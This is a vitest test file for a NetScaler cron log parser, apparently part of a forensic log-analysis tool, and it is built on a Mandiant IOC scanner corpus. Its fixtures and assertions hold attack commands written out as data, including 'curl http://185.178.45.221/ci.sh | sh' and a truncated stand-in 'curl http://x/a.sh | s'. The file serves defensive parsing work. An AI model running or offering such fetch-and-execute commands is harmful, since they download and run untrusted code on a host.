import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cronLogParser } from './cron-parser.js';
import { parseBuffer } from './parse-text.js';
import { corpus, expectAllAccounted } from '../../test/support/corpora.js';

const CORPUS = corpus('netscaler', 'mandiant-ioc-scanner', 'tests', 'cron-history');
const REFERENCE = Date.UTC(2020, 0, 25);

const parse = (input: Buffer | string, options: Record<string, unknown> = {}) =>
  parseBuffer(cronLogParser, input, { referenceTime: REFERENCE, ...options });

describe('cron: Mandiant corpus', () => {
  it.each(['ci-sh', 'nobody-user'])('accounts for every line of %s/var/log/cron', (dir) => {
    const input = readFileSync(join(CORPUS, dir, 'var/log/cron'));
    const result = parse(input);
    expectAllAccounted(input, result);
    expect(result.failures).toEqual([]);
    expect(result.events[0]!.ecs['event.action']).toBe('log_rotation');
    expect(result.events.slice(1).every((e) => e.ecs['event.action'] === 'cron_command')).toBe(true);
  });

  it('reads the `(nobody) CMD (ls /)` line and the newsyslog rotation', () => {
    const { events } = parse(readFileSync(join(CORPUS, 'nobody-user/var/log/cron')));
    const [rotation, cmd] = events;
    expect(rotation!.ecs).toMatchObject({ 'event.action': 'log_rotation', 'host.name': 'Stage-NS01', 'process.name': 'newsyslog', 'process.pid': 14448 });
    expect(rotation!.fields).toMatchObject({ rotation_reason: 'size>100K' });
    expect(rotation!.fields.facility).toBeUndefined();
    expect(cmd!.dataset).toBe('netscaler.cron');
    expect(cmd!.timestamp).toBe(Date.parse('2020-01-19T23:00:06Z'));
    expect(cmd!.timeQuality).toBe('year-inferred');
    expect(cmd!.ecs).toMatchObject({
      'event.action': 'cron_command',
      'user.name': 'nobody',
      'process.command_line': 'ls /',
      'process.name': 'cron',
      'process.pid': 14451,
      'host.name': 'Stage-NS01',
    });
    expect(cmd!.fields).toMatchObject({ program: '/usr/sbin/cron', facility: 'cron.info', user: 'nobody' });
  });

  it('keeps the command exactly, pipes and leading blanks included', () => {
    const { events } = parse(readFileSync(join(CORPUS, 'ci-sh/var/log/cron')));
    expect(events[1]!.ecs['process.command_line']).toBe('curl http://185.178.45.221/ci.sh | sh > /dev/null 2>&1');
    expect(events[2]!.ecs['process.command_line']).toBe('   nsfsyncd -p');
    expect(events[2]!.ecs['user.name']).toBe('root');
  });
});

describe('cron: line shapes', () => {
  it('reads crontab edits, other cron lines, Linux CRON, commands with parentheses and cut lines', () => {
    const input = [
      'Jan 19 23:05:00 <cron.info> ns crontab[900]: (root) REPLACE (nobody)',
      'Jan 19 23:05:01 <cron.info> ns /usr/sbin/cron[1]: (CRON) STARTUP (fork ok)',
      'Jan 19 23:05:02 host CRON[77]: (www-data) CMD (sh -c "(id)")',
      'Jan 19 23:05:03 <cron.info> ns /usr/sbin/cron[2]: (nobody) CMD (curl http://x/a.sh | s',
      'Jan 19 23:05:04 ns newsyslog[3]: logfile turned over',
      'Jan 19 23:05:05 ns sshd[4]: Accepted publickey for nsroot',
    ].join('\n');
    const { events, failures } = parse(input);
    expect(failures).toEqual([]);
    expect(events.map((e) => e.ecs['event.action'])).toEqual(['crontab_edit', 'syslog', 'cron_command', 'cron_command', 'log_rotation', 'syslog']);
    expect(events[0]!.fields).toMatchObject({ operation: 'REPLACE', target: 'nobody', user: 'root' });
    expect(events[2]!.ecs['process.command_line']).toBe('sh -c "(id)"');
    expect(events[3]!.fields.truncated).toBe('true');
    expect(events[3]!.ecs['process.command_line']).toBe('curl http://x/a.sh | s');
    expect(events[4]!.fields.rotation_reason).toBeUndefined();
    expect(events[5]!.fields.message).toBe('Accepted publickey for nsroot');
  });

  it('reads a line without host and applies the file host option only as a fallback', () => {
    const { events } = parse('Jan 19 23:00:06 newsyslog[14448]: logfile turned over due to size>100K\n', { host: 'collected-as' });
    expect(events[0]!.ecs).toMatchObject({ 'event.action': 'log_rotation', 'host.name': 'collected-as' });
  });

  it('rolls the year over Dec → Jan and reads hour 24 as the next day', () => {
    const input = [
      'Dec 31 23:59:00 <cron.info> ns /usr/sbin/cron[1]: (root) CMD (a)',
      'Dec 31 24:00:00 <cron.info> ns /usr/sbin/cron[1]: (root) CMD (b)',
      'Jan  1 00:01:00 <cron.info> ns /usr/sbin/cron[1]: (root) CMD (c)',
    ].join('\n');
    const { events } = parse(input, { referenceTime: Date.UTC(2021, 5, 1) });
    expect(events.map((e) => [new Date(e.timestamp!).toISOString(), e.timeQuality])).toEqual([
      ['2020-12-31T23:59:00.000Z', 'year-inferred'],
      ['2021-01-01T00:00:00.000Z', 'hour-24'],
      ['2021-01-01T00:01:00.000Z', 'year-inferred'],
    ]);
  });

  it('empty, garbage, truncated-header and non-UTF-8 lines', () => {
    const input = Buffer.concat([
      Buffer.from('\nnot a cron line\nJan 19 23:0\n'),
      Buffer.from('Jan 19 23:00:06 ns /usr/sbin/cron[1]: (nobody) CMD (echo '),
      Buffer.from([0xc3, 0x28, 0xff]),
      Buffer.from(')\n'),
    ]);
    const { events, failures, skipped } = parse(input);
    expect(skipped).toEqual([1]); // the blank line: neither event nor failure
    expect(failures.map((f) => [f.line, f.reason])).toEqual([
      [2, expect.stringMatching(/^no BSD syslog time/)],
      [3, expect.stringMatching(/^no BSD syslog time/)],
    ]);
    expect(events[0]!.message).not.toContain('\ufffd');
    expect(events[0]!.ecs['process.command_line']).toBe('echo \u00c3(\u00ff');
    expect(events[0]!.raw.equals(input.subarray(input.indexOf('Jan 19 23:00:06'), input.length - 1))).toBe(true);
  });
});
